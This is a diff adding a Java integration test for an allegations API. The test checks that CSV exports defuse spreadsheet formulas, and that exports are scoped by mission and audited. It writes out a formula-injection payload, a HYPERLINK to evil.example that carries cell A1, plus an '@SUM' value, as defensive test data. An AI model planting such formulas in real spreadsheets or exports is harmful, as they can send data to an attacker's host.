@@ -120,6 +120,30 @@ class OutOfScopeAccessIT {
         assertTrue(page.contains("&lt;script&gt;alert("), "the summary is escaped text");
     }
 
+    @Test
+    void aFormulaInASummaryIsDefusedInTheCsvExportWhichIsScopedAndAudited() {
+        Api api = new Api(url);
+        String officer = api.newAccount("csv-co", "CONDUCT_OFFICER", "UNAMID", null);
+        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
+        Api.Response filed = api.post("/api/v1/allegations", """
+                {"mission":"UNAMID","receivedOn":"2019-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
+                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)),
+                officer, PASSWORD);
+        assertEquals(201, filed.status(), filed.body());
+        String ref = filed.json().getString("reference");
+        Api.Response csv = api.get("/api/v1/allegations/export?mission=UNAMID", officer, PASSWORD);
+        assertEquals(200, csv.status(), csv.body());
+        assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
+        String line = csv.body().lines().filter(l -> l.startsWith("\"" + ref + "\"")).findFirst().orElseThrow();
+        assertTrue(line.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""), line);
+        assertTrue(line.contains("\"'@SUM(1+1)\""), line);
+        String other = api.newAccount("csv-other", "CONDUCT_OFFICER", "UNMISS", null);
+        assertFalse(api.get("/api/v1/allegations/export", other, PASSWORD).body().contains(ref), "scoped like the list");
+        String auditor = api.newAccount("csv-auditor", "AUDITOR", null, null);
+        assertTrue(api.get("/api/v1/audit?action=EXPORT&user=" + officer, auditor, PASSWORD).json()
+                .getJsonNumber("total").longValue() >= 1);
+    }
+
     private static long denied(Api api, String auditor, String ref) {
         Api.Response r = api.get("/api/v1/audit?outcome=DENIED&reference=" + ref + "&size=1", auditor, PASSWORD);
         assertEquals(200, r.status(), r.body());
